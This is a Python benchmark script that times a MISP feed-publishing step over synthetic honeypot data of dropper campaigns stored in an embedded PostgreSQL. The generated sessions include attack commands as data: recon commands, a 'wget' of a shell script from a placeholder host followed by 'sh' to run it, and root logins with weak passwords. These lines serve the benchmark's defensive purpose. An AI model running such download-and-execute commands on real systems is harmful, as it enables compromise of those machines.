"""Benchmark: the MISP publish step's time per interval along a long backfill (it must not grow
with the campaigns' history, only with what their events hold).

Loads ``--intervals`` consecutive hourly intervals (default 720: 30 days) into an embedded
PostgreSQL (``pgserver``): each interval's sessions and analysis result are stored and loaded (not
timed), then published to a MISP feed folder by the publish task's own code
(``coord_core.pipeline.publish_misp.export_interval``), timed. The results are synthetic and shaped
like the generated history's (``tests/trends/history_run.py``): ``--campaigns`` dropper campaigns
seen in most hours, each session from a new bot (so each event gains a few source-IP attributes an
hour), with recon commands, a popular HASSH, now and then a failed download. Side by side, every
``--rebuild-every`` intervals: the events built the way every publish built them before the sums
were kept, from every stored occurrence (``rebuilt_events``), timed, and checked equal to the kept
ones.

Target: over the last day the median publish (fold, render, feed written) at most half the time the
rebuild from every occurrence takes at the end (before writing anything), and kept events equal to
rebuilt ones at every checkpoint. Folding in an interval's occurrences is flat; rendering the
events and rewriting their feed files still grow with what the events hold (a new bot is a new
source-IP attribute), which the per-day medians show.

    .venv/bin/python bench/bench_misp_publish.py                   # 720 hourly intervals
    .venv/bin/python bench/bench_misp_publish.py --intervals 168   # a week

Prints one JSON document and writes ``bench/results/misp_publish.json``.
"""

from __future__ import annotations

import argparse
import hashlib
import random
import statistics
import tempfile
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import psycopg

from bench.harness import progress, write_result
from coord_core.contracts.campaigns import AnalysisResult, Campaign, Evidence, RunInfo, Verdict
from coord_core.contracts.sessions import AttackSession, Download, LoginAttempt
from coord_core.contracts.window import DataWindow
from coord_core.embedded_services import EmbeddedPostgres
from coord_core.intel.feed_publisher import FeedPublisher
from coord_core.intel.settings import MispExportSettings
from coord_core.pipeline.load import load_interval
from coord_core.pipeline.misp_event_fold import folded_events, rebuilt_events
from coord_core.pipeline.publish_misp import export_interval
from coord_core.store.migrations import migrate
from coord_core.store.results import ResultsStore

START = datetime(2025, 11, 3, tzinfo=UTC)
HOUR = timedelta(hours=1)
DAY = 24  # intervals
HASSH = ("ec7378c1a92f5a8dde7e8b7a1ddf33d1", "b5752e36ba6c5979a575e43178908adf")
TARGET_RATIO = 0.5
MIN_CONFIDENCE = 0.5
SETTINGS = MispExportSettings()


def _digest(*parts: object) -> str:
    return hashlib.sha256("|".join(map(str, parts)).encode()).hexdigest()


def _session(rng: random.Random, window: DataWindow, campaign: int, k: int) -> AttackSession:
    """A bot of dropper campaign ``campaign``: a new source, recon, the campaign's dropper."""
    start = window.start + timedelta(seconds=rng.randrange(3000))
    url = f"http://203.0.{113 + campaign % 3}.{10 + campaign}/bins/c{campaign}.sh"
    failed = rng.random() < 0.05
    return AttackSession(
        session_id=_digest("session", campaign, window.start, k)[:12],
        sensor=f"sensor-{rng.randrange(3)}",
        src_ip=f"10.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}",
        start=start,
        end=start + timedelta(seconds=rng.randrange(5, 600)),
        hassh=rng.choice(HASSH),
        logins=[LoginAttempt(username="root", password=rng.choice(["admin", "1234", "root"]), success=True)],
        commands=[rng.choice(["uname -a", "id", "cat /proc/cpuinfo"]), f"wget {url}", f"sh c{campaign}.sh"],
        downloads=[Download(url=url, shasum=None if failed else _digest("payload", campaign), failed=failed)],
        event_count=8,
        has_connect=True,
        has_close=True,
    )


def interval_results(
    index: int, campaigns: int, seed: int
) -> tuple[DataWindow, list[AttackSession], AnalysisResult]:
    """Interval ``index``: each campaign seen with probability 0.9, with 2-7 sessions."""
    rng = random.Random(seed * 1_000_003 + index)
    window = DataWindow(start=START + index * HOUR, end=START + (index + 1) * HOUR)
    found, sessions = [], []
    for c in range(campaigns):
        if rng.random() >= 0.9:
            continue
        members = [_session(rng, window, c, k) for k in range(rng.randint(2, 7))]
        occurrence = f"cmp-{_digest(c, window.start)[:16]}"
        evidence = Evidence(
            evidence_id=f"{occurrence}:shared",
            factor="shared_artifacts",
            score=0.9,
            statistic={"p_value": 0.001, "shared": [f"file_hash:{_digest('payload', c)}"]},
            summary=f"{len(members)} sources share the dropper",
        )
        found.append(
            Campaign(
                campaign_id=occurrence,
                verdict=Verdict.COORDINATED_CAMPAIGN,
                confidence=round(0.8 + rng.random() * 0.19, 3),
                session_ids=[s.session_id for s in members],
                source_ips=sorted({s.src_ip for s in members}),
                first_seen=min(s.start for s in members),
                last_seen=max(s.end for s in members),
                evidence=[evidence],
                signature=[_digest("host", c)[:16], _digest("payload", c)[:16]],
            )
        )
        sessions += members
    run = RunInfo(input_fingerprint=_digest("bench", index)[:16], parameters={}, code_version="bench")
    return window, sessions, AnalysisResult(run=run, campaigns=found)


def _median(values: list[float]) -> float:
    return round(statistics.median(values), 4)


def run(
    conn: psycopg.Connection[Any],
    intervals: int,
    campaigns: int,
    rebuild_every: int,
    seed: int,
    *,
    feed: Path,
) -> dict[str, Any]:
    migrate(conn)
    store = ResultsStore(conn)
    publisher = FeedPublisher(feed, SETTINGS, clock=lambda: 1_760_000_000)
    publishes: list[float] = []
    rebuilds: list[dict[str, Any]] = []
    for index in range(intervals):
        window, sessions, result = interval_results(index, campaigns, seed)
        store.replace_sessions(window, sessions)
        store.save_analysis_result(window, result, parameters_hash="bench")
        load_interval(store, window)
        started = time.perf_counter()
        export_interval(store, window, publisher, SETTINGS, min_confidence=MIN_CONFIDENCE)
        publishes.append(time.perf_counter() - started)
        if (index + 1) % rebuild_every == 0 or index + 1 == intervals:
            started = time.perf_counter()
            rebuilt = rebuilt_events(store, window, SETTINGS, min_confidence=MIN_CONFIDENCE)
            rebuild_s = time.perf_counter() - started
            started = time.perf_counter()
            kept, _ = folded_events(store, window, SETTINGS, min_confidence=MIN_CONFIDENCE)
            kept_s = time.perf_counter() - started
            rebuilds.append(
                progress(
                    {
                        "interval": index + 1,
                        "attributes": sum(len(e.attributes) for e in kept),
                        "publish_s_median_last_day": _median(publishes[-DAY:]),
                        "events_kept_s": round(kept_s, 4),
                        "events_rebuilt_s": round(rebuild_s, 4),
                        "equal": kept == rebuilt
                        and [e.rejected for e in kept] == [e.rejected for e in rebuilt],
                    }
                )
            )
    per_day = [_median(publishes[d : d + DAY]) for d in range(0, intervals, DAY)]
    ratio = per_day[-1] / rebuilds[-1]["events_rebuilt_s"]
    feed_bytes = sum(p.stat().st_size for p in feed.iterdir() if p.suffix == ".json")
    return {
        "intervals": intervals,
        "publish_s_median_per_day": per_day,
        "publish_s_max": round(max(publishes), 4),
        "publish_s_total": round(sum(publishes), 1),
        "rebuild_checkpoints": rebuilds,
        "events_equal_at_every_checkpoint": all(r["equal"] for r in rebuilds),
        "feed_event_bytes_after": feed_bytes,
        "last_day_publish_to_final_rebuild_ratio": round(ratio, 3),
        "meets_target": ratio <= TARGET_RATIO and all(r["equal"] for r in rebuilds),
    }


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--intervals", type=int, default=720)
    parser.add_argument("--campaigns", type=int, default=4)
    parser.add_argument("--rebuild-every", type=int, default=120, help="time the rebuild this often")
    parser.add_argument("--seed", type=int, default=7)
    args = parser.parse_args(argv)
    with tempfile.TemporaryDirectory(prefix="coord-bench-misp-") as tmp:
        server = EmbeddedPostgres(Path(tmp) / "pgdata")
        dsn = server.start()
        try:
            with psycopg.connect(dsn) as conn:
                outcome = run(
                    conn,
                    args.intervals,
                    args.campaigns,
                    args.rebuild_every,
                    args.seed,
                    feed=Path(tmp) / "feed",
                )
        finally:
            server.stop()
    document = {
        "command": ".venv/bin/python bench/bench_misp_publish.py (make bench)",
        "timed": "the MISP publish step (events kept per occurrence, feed folder) per hourly interval; "
        "side by side the events rebuilt from every occurrence, as every publish did before",
        "target": f"median publish over the last day <= {TARGET_RATIO}x the final rebuild from every "
        "occurrence; kept events equal to rebuilt ones at every checkpoint",
        **outcome,
    }
    write_result("misp_publish", document)
    return 0 if outcome["meets_target"] else 1


if __name__ == "__main__":
    raise SystemExit(main())
